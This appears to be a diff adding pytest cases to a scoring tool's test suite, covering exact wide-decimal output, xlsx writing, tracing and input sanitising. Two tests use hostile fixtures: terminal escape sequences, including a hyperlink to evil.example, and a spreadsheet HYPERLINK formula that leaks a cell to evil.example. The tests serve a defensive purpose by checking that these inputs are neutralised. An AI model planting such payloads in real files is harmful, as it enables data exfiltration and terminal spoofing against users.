@@ -31,8 +31,10 @@ def result_rows(path: Path) -> list[dict[str, str]]:
         return list(csv.DictReader(stream))
 
 
-def score_cli(*args: str) -> tuple[int, str, str]:
-    run = CliRunner().invoke(cli, ["score", str(SEED), *args, "--lang", "en"])
+def score_cli(*args: str, quiet: bool = False) -> tuple[int, str, str]:
+    run = CliRunner().invoke(
+        cli, [*(["-q"] if quiet else []), "score", str(SEED), *args, "--lang", "en"]
+    )
     assert "internal error" not in run.output, run.output
     return run.exit_code, run.stdout, run.stderr
 
@@ -177,3 +179,160 @@ def test_parquet_unit_column_of_the_wrong_type_is_a_located_error(tmp_path):
         code, _, err = score_cli(str(source), "--out", str(tmp_path / "o.csv"))
         assert code in (1, 2), (kind, err)
         assert "unit" in err
+
+
+# --- writers: wide enough for every score the scheme can produce ---------------------------
+WIDE_SCHEME = """
+[scheme]
+id = "wide"
+title = "wide"
+year = 2021
+version = "1.0.0"
+max = 100000000000000000000000000000
+
+[rounding]
+mode = "half_up"
+indicator = 10
+total = 10
+
+[inputs]
+actual = { label = "a" }
+
+[[bands]]
+label = "A"
+min = 0
+max = 100000000000000000000000000000
+
+[indicators.x]
+weight = 100000000000000000000000000000
+formula = "weight * min(actual, 1)"
+"""
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
+@pytest.mark.parametrize("streamed", [True, False])
+def test_forty_digit_scores_are_written_exactly(tmp_path, suffix, streamed):
+    from perfrules.workflows._batch import score_batch, write_results
+
+    compiled = perfrules.compile_scheme(perfrules.loads_scheme(WIDE_SCHEME))
+    source = tmp_path / "units.csv"
+    source.write_text("unit,x\nu1,0.3333333333\nu2,1\n", encoding="utf-8")
+    target = tmp_path / f"out{suffix}"
+    if streamed:
+        stream_batch(compiled, source, target)
+    else:
+        write_results(score_batch(compiled, source), compiled, target)
+    if suffix == ".csv":
+        totals = [r["total"] for r in result_rows(target)]
+    else:
+        totals = [str(v) for v in pq.read_table(target).column("total").to_pylist()]
+    assert totals == [
+        "33333333330000000000000000000.0000000000",
+        "100000000000000000000000000000.0000000000",
+    ]
+
+
+def test_chunks_of_narrow_and_wide_scores_share_the_schemes_type(tmp_path):
+    compiled = perfrules.compile_scheme(perfrules.loads_scheme(WIDE_SCHEME))
+    source = tmp_path / "units.csv"
+    source.write_text("unit,x\nu0,0\nu1,1\n", encoding="utf-8")
+    target = tmp_path / "out.parquet"
+    stream_batch(compiled, source, target, rows=1)  # the first chunk fits decimal128
+    column = pq.read_table(target).column("total")
+    assert pa.types.is_decimal256(column.type)
+    assert [str(v) for v in column.to_pylist()] == [
+        "0E-10",
+        "100000000000000000000000000000.0000000000",
+    ]
+
+
+def test_xlsx_results_are_appended_without_scanning_the_sheet(tmp_path, monkeypatch):
+    pytest.importorskip("openpyxl")
+    from openpyxl.worksheet.worksheet import Worksheet
+
+    from perfrules.workflows._batch import score_batch, write_results
+
+    asked = []
+    real = Worksheet.max_row
+    monkeypatch.setattr(
+        Worksheet, "max_row", property(lambda sheet: asked.append(1) or real.fget(sheet))
+    )
+    source = tmp_path / "units.csv"
+    write_units(source, 600)
+    compiled = compiled_seed()
+    outcome = score_batch(compiled, source)
+    write_results(outcome, compiled, tmp_path / "out.xlsx")
+    assert len(asked) <= 2  # once for the whole sheet, never once a row
+    asked.clear()
+    import openpyxl
+
+    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
+    summary = book["summary"]
+    assert summary.max_row == 601
+    assert summary.cell(2, 1).value == "单位0"
+
+
+def test_unit_option_keeps_one_trace(tmp_path, monkeypatch):
+    source = tmp_path / "units.csv"
+    write_units(source, 300)
+    traced = []
+    real = perfrules.CompiledScheme.evaluate
+
+    def counting(self, facts, *, trace=True, cohort=None):
+        traced.append(trace)
+        return real(self, facts, trace=trace, cohort=cohort)
+
+    monkeypatch.setattr(perfrules.CompiledScheme, "evaluate", counting)
+    code, out, _ = score_cli(str(source), "--unit", "单位250", "--format", "json")
+    assert code == 0
+    assert json.loads(out)["provenance"]["unit"] == "单位250"
+    assert traced.count(True) == 1
+
+
+def test_escape_codes_in_unit_names_never_reach_the_no_such_unit_message(tmp_path):
+    source = tmp_path / "units.csv"
+    write_units(source, 3)
+    text = source.read_text("utf-8")
+    text = text.replace("单位0", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\")
+    text = text.replace("单位1", "\x1b[2J\x1b[H" + "x" * 5000)
+    source.write_text(text, encoding="utf-8")
+    run = CliRunner().invoke(cli, ["score", str(SEED), str(source), "--unit", "\x1b[31mnope"])
+    assert run.exit_code == 2
+    assert "\x1b" not in run.output
+    assert "no unit" in run.output
+    assert "<U+001B>" in run.output  # shown by name, never sent
+    assert len(run.output) < 2000
+
+
+def test_the_terminal_summary_cuts_long_cells_before_layout(tmp_path):
+    source = tmp_path / "units.csv"
+    write_units(source, 3, bad={1: "0,93"})
+    text = source.read_text("utf-8").replace("单位1", "名" * 300_000)
+    source.write_text(text, encoding="utf-8")
+    code, _, err = score_cli(str(source), "--out", str(tmp_path / "o.csv"), quiet=True)
+    assert code == 1
+    assert "PR402" in err
+    assert "名" * 50 in err
+    assert len(err) < 20_000
+
+
+def test_a_formula_in_a_cohort_column_is_inert_in_every_writer(tmp_path):
+    from perfrules.workflows._batch import score_batch, write_results
+    from test_stream import PROCUREMENT
+
+    compiled = perfrules.compile_scheme(perfrules.load_scheme(PROCUREMENT))
+    lot = '=HYPERLINK("http://evil.example/"&A1,"x")'
+    source = tmp_path / "bids.csv"
+    with source.open("w", encoding="utf-8", newline="") as stream:
+        writer = csv.writer(stream)
+        writer.writerow(
+            ["unit", "shared.lot", "shared.bid", "shared.valid", "技术.marks", "商务.marks"]
+        )
+        writer.writerow(["甲", lot, "980000", "是", "42.5", "16"])
+        writer.writerow(["乙", lot, "950000", "是", "40", "17"])
+    in_memory, streamed = tmp_path / "memory.csv", tmp_path / "streamed.csv"
+    write_results(score_batch(compiled, source), compiled, in_memory)
+    stream_batch(compiled, source, streamed)
+    for target in (in_memory, streamed):
+        rows = result_rows(target)
+        assert [r["lot"] for r in rows] == ["'" + lot] * 2, target.name
